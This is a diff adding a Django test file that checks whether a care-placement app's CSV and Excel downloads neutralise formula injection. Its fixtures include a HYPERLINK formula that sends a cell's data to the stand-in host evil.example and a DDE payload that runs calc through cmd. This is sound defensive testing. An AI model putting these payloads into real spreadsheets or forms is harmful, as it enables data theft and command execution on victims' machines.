@@ -1,0 +1,117 @@
+"""Text that looks like a formula comes out of every download as text (OWASP "CSV injection"; issue 14).
+
+A case reference, team, provider name or cost description typed in a form or imported can start with
+``=``, ``+``, ``-`` or ``@``. Every CSV the app writes carries such a cell with a leading apostrophe and
+every Excel cell is a string, never a formula; genuine numbers (a negative amount) stay numbers.
+"""
+
+import csv
+import io
+from datetime import date
+from decimal import Decimal
+
+import openpyxl
+import pytest
+from django.urls import reverse
+
+from panel.models import PanelMeeting, PanelReview
+from placements.exports import as_text
+from tests.factories import make_child, make_cost_line, make_placement, make_provider
+
+pytestmark = pytest.mark.django_db
+
+CASE_REF = "=1+2"
+TEAM = '=HYPERLINK("http://evil.example/?d="&A2,"Open")'
+PROVIDER = "@SUM(1+1)"
+DESCRIPTION = "+cmd|' /C calc'!A0"
+DANGEROUS = (CASE_REF, TEAM, PROVIDER, DESCRIPTION)
+
+
+@pytest.mark.parametrize("value, shown", [
+    ("=1+2", "'=1+2"), ("+44 1905 000000", "'+44 1905 000000"), ("-12.50", "-12.50"), ("-", "'-"),
+    ("@SUM(1)", "'@SUM(1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-nan", "'-nan"), ("Oak House", "Oak House"),
+    ("", ""), (12, 12), (Decimal("-3.5"), Decimal("-3.5")), (None, None),
+])
+def test_the_rule_for_one_cell(value, shown):
+    assert as_text(value) == shown
+
+
+@pytest.fixture
+def world():
+    child = make_child(case_ref=CASE_REF, team=TEAM, given_name="-Sam", family_name="@Tester")
+    placement = make_placement(child, make_provider(name=PROVIDER, urn="SCX1"), start=date(2024, 1, 1))
+    make_cost_line(placement, "9500", placement.start, description=DESCRIPTION, kind="additional")
+    return child
+
+
+def cells_of_csv(content: bytes) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
+
+
+def cells_of_xlsx(content: bytes) -> list:
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "a formula cell"
+    return [cell.value for cell in cells]
+
+
+def assert_safe(cells, expected_present=DANGEROUS):
+    text = [cell for cell in cells if isinstance(cell, str)]
+    assert not [cell for cell in text if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and cell not in ("-",))
+                and not cell.lstrip("-").replace(".", "").replace(",", "").isdigit()]
+    for value in expected_present:
+        if any(value in cell for cell in text):
+            assert f"'{value}" in text or any(cell.startswith("'") and value in cell for cell in text)
+
+
+@pytest.mark.parametrize("url_name", ["child_list", "placement_list", "provider_list"])
+@pytest.mark.parametrize("export", ["csv", "xlsx"])
+def test_the_list_downloads_carry_formulas_as_text(admin_client, world, url_name, export):
+    response = admin_client.get(reverse(url_name) + f"?_export={export}")
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    cells = cells_of_csv(content) if export == "csv" else cells_of_xlsx(content)
+    assert_safe(cells)
+    assert any(isinstance(cell, str) and cell.startswith("'=") for cell in cells) or url_name == "provider_list"
+
+
+def test_the_weekly_workbook_and_tables_carry_formulas_as_text(admin_client, world):
+    url = reverse("tracker_weekly") + "?week_ending=2024-01-07"
+    cells = cells_of_xlsx(admin_client.get(url + "&_export=workbook").content)
+    assert "'=1+2" in cells and f"'{PROVIDER}" in cells
+    assert_safe(cells)
+    assert_safe(cells_of_csv(admin_client.get(url + "&_export=csv&table=placements").content))
+
+
+def test_the_residential_tracker_lists_the_additional_cost_as_text(admin_client, world):
+    cells = cells_of_xlsx(admin_client.get(reverse("tracker_residential") + "?month=2024-01&_export=workbook").content)
+    assert any(isinstance(cell, str) and cell.startswith("'") and DESCRIPTION in cell for cell in cells)
+    assert_safe(cells)
+
+
+def test_the_agenda_downloads_carry_formulas_as_text(admin_client, world):
+    meeting = PanelMeeting.objects.create(date=date(2024, 1, 11), chair="Chair")
+    PanelReview.objects.create(meeting=meeting, child=world, placement=world.placements.get(), reasons=["NEAR_18"],
+                               reason_texts=["=1+1 reason"], weekly_cost=Decimal("9500"), position=1)
+    for export in ("csv", "xlsx"):
+        content = admin_client.get(reverse("panel_pack", args=[meeting.pk]) + f"?_export={export}").content
+        cells = cells_of_csv(content) if export == "csv" else cells_of_xlsx(content)
+        assert "'=1+2" in cells
+        assert_safe(cells)
+
+
+def test_the_data_quality_and_audit_downloads_carry_formulas_as_text(admin_client, world):
+    quality = admin_client.get(reverse("data_quality") + "?section=no-rating&_export=xlsx").content
+    assert "'=1+2" in cells_of_xlsx(quality)
+    response = admin_client.get(reverse("audit_changes") + "?_export=csv")
+    audit = b"".join(response.streaming_content) if response.streaming else response.content
+    assert_safe(cells_of_csv(audit), expected_present=())
+
+
+def test_the_commands_write_formulas_as_text(world, tmp_path):
+    from django.core.management import call_command
+
+    out = io.StringIO()
+    call_command("weekly_tracker", "--week-ending", "2024-01-07", "--format", "csv", stdout=out)
+    assert "'=1+2" in cells_of_csv(out.getvalue().encode())
+    call_command("weekly_tracker", "--week-ending", "2024-01-07", "--format", "xlsx", "--output", str(tmp_path / "w.xlsx"))
+    assert "'=1+2" in cells_of_xlsx((tmp_path / "w.xlsx").read_bytes())
